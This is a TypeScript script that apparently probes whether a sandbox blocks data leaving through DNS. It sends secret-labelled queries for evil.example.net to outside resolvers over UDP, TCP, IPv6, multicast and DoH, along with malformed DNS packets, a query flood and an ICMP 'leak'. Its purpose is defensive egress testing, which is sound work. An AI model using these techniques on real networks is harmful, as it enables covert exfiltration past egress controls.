// Data out through name resolution, written from RFC 1035 so that a question can be as odd as an attacker likes.
import { randomInt } from "node:crypto";
import { createSocket } from "node:dgram";
import { lookup } from "node:dns/promises";
import { connect, isIP } from "node:net";
import {
  DATAGRAM_MS,
  failed,
  https,
  type Outcome,
  PATIENCE_MS,
  type Probes,
  perl,
  runProbes,
  udp,
  way,
} from "./lib.ts";

const TYPES = {
  A: 1,
  NS: 2,
  CNAME: 5,
  NULL: 10,
  MX: 15,
  TXT: 16,
  AAAA: 28,
  SRV: 33,
  SVCB: 64,
  HTTPS: 65,
  ANY: 255,
  AXFR: 252,
};
/** Not the resolver the bottle was given: an outside one. */
const OUTSIDE = "8.8.8.8";
const SECRET_LABEL = `s3cr3t-${way}`;

function question(
  name: string,
  type: number,
  options: { rrclass?: number; opcode?: number; count?: number } = {},
): Buffer {
  const labels = name
    .split(".")
    .map((label) => Buffer.from([label.length & 0xff, ...Buffer.from(label, "latin1")]));
  const { rrclass = 1, opcode = 0, count = 1 } = options;
  const header = Buffer.from([
    randomInt(256),
    randomInt(256),
    1 | (opcode << 3),
    0,
    0,
    count,
    0,
    0,
    0,
    0,
    0,
    0,
  ]);
  return Buffer.concat([
    header,
    ...labels,
    Buffer.from([0, type >> 8, type & 0xff, rrclass >> 8, rrclass & 0xff]),
  ]);
}

/** `RCODE COUNT ADDRESS`: what a message answers. */
function answer(message: Buffer): Outcome {
  if (message.length < 12) return { kind: "bytes", raw: message.toString("hex") };
  const count = message.readUInt16BE(6);
  const address = count === 1 ? message.subarray(-4).join(".") : "-";
  return { kind: "done", detail: `rcode ${(message[3] ?? 0) & 15}, ${count} answers, ${address}` };
}

function put(server: string, message: Buffer, port = 53, patience = DATAGRAM_MS): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = createSocket(isIP(server) === 6 ? "udp6" : "udp4");
    const end = (one: Outcome) => {
      clearTimeout(timer);
      socket.close();
      resolve(one);
    };
    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), patience);
    socket.once("error", (error) => end(failed(error)));
    socket.once("message", (reply) => end(answer(reply)));
    socket.once("connect", () => socket.send(message));
    socket.connect(port, server);
  });
}

/** Over TCP: two octets of length first (RFC 1035 §4.2.2). */
function putTcp(server: string, message: Buffer): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = connect(53, server);
    let raw = Buffer.alloc(0);
    const end = (one: Outcome) => {
      clearTimeout(timer);
      resolve(one);
      socket.destroy();
    };
    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), PATIENCE_MS);
    socket.on("error", (error) => end(failed(error)));
    socket.on("data", (chunk: Buffer) => {
      raw = Buffer.concat([raw, chunk]);
      if (raw.length > 2 && raw.length >= raw.readUInt16BE(0) + 2) end(answer(raw.subarray(2)));
    });
    socket.on("close", () => end({ kind: "failed", code: "CLOSED" }));
    socket.write(Buffer.concat([Buffer.from([message.length >> 8, message.length & 0xff]), message]));
  });
}

const label = (index: number) => `${SECRET_LABEL}-${index}.evil.example.net`;

/** Sends questions faster than they are written down, then waits until one more is. */
async function tooMany(count: number): Promise<Outcome> {
  const many = Array.from({ length: count }, () => put(OUTSIDE, question(label(1), TYPES.TXT), 53, 3_000));
  await Promise.all(many);
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  return put(OUTSIDE, question(label(1), TYPES.TXT));
}

const types: Probes = Object.fromEntries(
  Object.entries(TYPES).map(([name, type]) => [`type-${name}`, () => put(OUTSIDE, question(label(1), type))]),
);

await runProbes({
  ...types,
  "too-many": () => tooMany(100),
  "own-resolver": async () => ({ kind: "done", detail: (await lookup("api.example.com")).address }),
  "unlisted-name": async () => ({ kind: "done", detail: (await lookup(label(2))).address }),
  "outside-v6": () => put("2001:4860:4860::8888", question(label(3), TYPES.A), 53, 1_000),
  "over-tcp": () => putTcp(OUTSIDE, question(label(4), TYPES.A)),
  "txt-over-tcp": () => putTcp(OUTSIDE, question(label(5), TYPES.TXT)),
  "long-name": () => put(OUTSIDE, question(Array(9).fill("a".repeat(31)).join("."), TYPES.A)),
  "long-label": () => put(OUTSIDE, question(`${"b".repeat(64)}.evil.example.net`, TYPES.A)),
  "many-labels": () => put(OUTSIDE, question(`${"c.".repeat(100)}evil.example.net`, TYPES.A)),
  "chaos-class": () => put(OUTSIDE, question("version.bind", TYPES.TXT, { rrclass: 3 })),
  update: () => put(OUTSIDE, question(label(6), TYPES.A, { opcode: 5 })),
  notify: () => put(OUTSIDE, question(label(7), TYPES.A, { opcode: 4 })),
  "two-questions": () => put(OUTSIDE, question(label(8), TYPES.A, { count: 2 })),
  "pointer-loop": () => put(OUTSIDE, Buffer.from("123401000001000000000000c00c00010001", "hex")),
  garbage: () => put(OUTSIDE, Buffer.from("not dns at all")),
  mdns: () => put("224.0.0.251", question(label(9), TYPES.A), 5353, 1_000),
  llmnr: () => put("224.0.0.252", question(label(10), TYPES.A), 5355, 1_000),
  "other-port": () => udp("8.8.8.8", 5300, Buffer.from("leak")),
  doh: () => https("dns.google", "/dns-query?dns=AAABAAABAAAAAAAA"),
  "icmp-ping": () =>
    perl(
      'do { send($s, pack("C C n n n a*", 8, 0, 0, 1, 1, "leak"), 0, sockaddr_in(0, inet_aton("8.8.8.8"))) }',
      "socket(our $s, AF_INET, SOCK_DGRAM, 1)",
    ),
});
